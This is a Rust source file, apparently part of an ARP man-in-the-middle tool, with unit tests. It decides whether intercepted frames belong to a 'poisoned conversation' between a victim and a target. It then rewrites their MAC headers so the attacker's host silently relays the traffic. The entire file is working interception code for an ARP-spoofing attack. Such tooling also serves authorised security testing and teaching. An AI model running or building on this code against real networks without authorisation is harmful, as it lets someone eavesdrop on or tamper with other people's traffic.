//! Inbound traffic classification for the relay loop

use arpmitm_core::{Ipv4Address, MacAddr};

use crate::{ETHERNET_HEADER_LEN, ETHERTYPE_IPV4, IPV4_MIN_HEADER_LEN};

// IPv4 source/destination offsets within the full frame
const IP_SRC_OFFSET: usize = ETHERNET_HEADER_LEN + 12;
const IP_DST_OFFSET: usize = ETHERNET_HEADER_LEN + 16;

/// Classification of an intercepted frame
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// Not for us; silently discarded
    Ignore,
    /// IPv4 traffic sent by the victim
    FromVictim,
    /// IPv4 traffic sent by the target
    FromTarget,
}

fn mac_at(frame: &[u8], offset: usize) -> MacAddr {
    let mut bytes = [0u8; 6];
    bytes.copy_from_slice(&frame[offset..offset + 6]);
    MacAddr(bytes)
}

fn ip_at(frame: &[u8], offset: usize) -> Ipv4Address {
    Ipv4Address([
        frame[offset],
        frame[offset + 1],
        frame[offset + 2],
        frame[offset + 3],
    ])
}

/// Decide whether an inbound frame is part of the poisoned conversation.
///
/// Malformed or truncated frames are ignored, never an error. A frame
/// qualifies when it is IPv4, addressed to our MAC, sent from the victim
/// or the target, and its IP source or destination is the victim.
pub fn classify_inbound(
    frame: &[u8],
    victim_mac: MacAddr,
    target_mac: MacAddr,
    own_mac: MacAddr,
    victim_ip: Ipv4Address,
) -> Verdict {
    if frame.len() < ETHERNET_HEADER_LEN + IPV4_MIN_HEADER_LEN {
        return Verdict::Ignore;
    }

    let ethertype = u16::from_be_bytes([frame[12], frame[13]]);
    if ethertype != ETHERTYPE_IPV4 {
        return Verdict::Ignore;
    }

    if mac_at(frame, 0) != own_mac {
        return Verdict::Ignore;
    }

    let src_mac = mac_at(frame, 6);
    if src_mac != victim_mac && src_mac != target_mac {
        return Verdict::Ignore;
    }

    let src_ip = ip_at(frame, IP_SRC_OFFSET);
    let dst_ip = ip_at(frame, IP_DST_OFFSET);
    if src_ip != victim_ip && dst_ip != victim_ip {
        return Verdict::Ignore;
    }

    if src_mac == victim_mac {
        Verdict::FromVictim
    } else {
        Verdict::FromTarget
    }
}

/// Rewrite a frame for relaying: Ethernet destination becomes the other
/// party, source becomes our own MAC. The payload is untouched.
pub fn rewrite_for_relay(frame: &[u8], new_dest_mac: MacAddr, own_mac: MacAddr) -> Vec<u8> {
    let mut out = frame.to_vec();
    out[0..6].copy_from_slice(new_dest_mac.as_bytes());
    out[6..12].copy_from_slice(own_mac.as_bytes());
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const VICTIM_MAC: MacAddr = MacAddr([0x11, 0x11, 0x11, 0x11, 0x11, 0x11]);
    const TARGET_MAC: MacAddr = MacAddr([0x22, 0x22, 0x22, 0x22, 0x22, 0x22]);
    const OWN_MAC: MacAddr = MacAddr([0x33, 0x33, 0x33, 0x33, 0x33, 0x33]);
    const VICTIM_IP: Ipv4Address = Ipv4Address([192, 168, 1, 50]);
    const TARGET_IP: Ipv4Address = Ipv4Address([192, 168, 1, 1]);

    fn ipv4_frame(
        dst_mac: MacAddr,
        src_mac: MacAddr,
        src_ip: Ipv4Address,
        dst_ip: Ipv4Address,
    ) -> Vec<u8> {
        let mut frame = vec![0u8; ETHERNET_HEADER_LEN + IPV4_MIN_HEADER_LEN];
        frame[0..6].copy_from_slice(dst_mac.as_bytes());
        frame[6..12].copy_from_slice(src_mac.as_bytes());
        frame[12..14].copy_from_slice(&ETHERTYPE_IPV4.to_be_bytes());
        frame[14] = 0x45; // version + IHL
        frame[IP_SRC_OFFSET..IP_SRC_OFFSET + 4].copy_from_slice(&src_ip.octets());
        frame[IP_DST_OFFSET..IP_DST_OFFSET + 4].copy_from_slice(&dst_ip.octets());
        frame
    }

    fn classify(frame: &[u8]) -> Verdict {
        classify_inbound(frame, VICTIM_MAC, TARGET_MAC, OWN_MAC, VICTIM_IP)
    }

    #[test]
    fn test_classifies_both_directions() {
        let from_victim = ipv4_frame(OWN_MAC, VICTIM_MAC, VICTIM_IP, Ipv4Address([8, 8, 8, 8]));
        assert_eq!(classify(&from_victim), Verdict::FromVictim);

        let from_target = ipv4_frame(OWN_MAC, TARGET_MAC, TARGET_IP, VICTIM_IP);
        assert_eq!(classify(&from_target), Verdict::FromTarget);
    }

    #[test]
    fn test_ignores_frames_not_addressed_to_us() {
        let frame = ipv4_frame(TARGET_MAC, VICTIM_MAC, VICTIM_IP, TARGET_IP);
        assert_eq!(classify(&frame), Verdict::Ignore);
    }

    #[test]
    fn test_ignores_non_ipv4() {
        let mut frame = ipv4_frame(OWN_MAC, VICTIM_MAC, VICTIM_IP, TARGET_IP);
        frame[12..14].copy_from_slice(&0x0806u16.to_be_bytes());
        assert_eq!(classify(&frame), Verdict::Ignore);
    }

    #[test]
    fn test_ignores_unknown_sender() {
        let stranger = MacAddr([0x44; 6]);
        let frame = ipv4_frame(OWN_MAC, stranger, VICTIM_IP, TARGET_IP);
        assert_eq!(classify(&frame), Verdict::Ignore);
    }

    #[test]
    fn test_ignores_unrelated_ip_conversation() {
        let frame = ipv4_frame(
            OWN_MAC,
            TARGET_MAC,
            Ipv4Address([10, 0, 0, 1]),
            Ipv4Address([10, 0, 0, 2]),
        );
        assert_eq!(classify(&frame), Verdict::Ignore);
    }

    #[test]
    fn test_ignores_truncated_frames() {
        assert_eq!(classify(&[]), Verdict::Ignore);
        assert_eq!(classify(&[0u8; 13]), Verdict::Ignore);
        assert_eq!(classify(&[0u8; 33]), Verdict::Ignore);
    }

    #[test]
    fn test_relay_rewrite() {
        let frame = ipv4_frame(OWN_MAC, VICTIM_MAC, VICTIM_IP, TARGET_IP);
        let relayed = rewrite_for_relay(&frame, TARGET_MAC, OWN_MAC);

        assert_eq!(&relayed[0..6], TARGET_MAC.as_bytes());
        assert_eq!(&relayed[6..12], OWN_MAC.as_bytes());
        // payload untouched
        assert_eq!(&relayed[12..], &frame[12..]);
    }
}
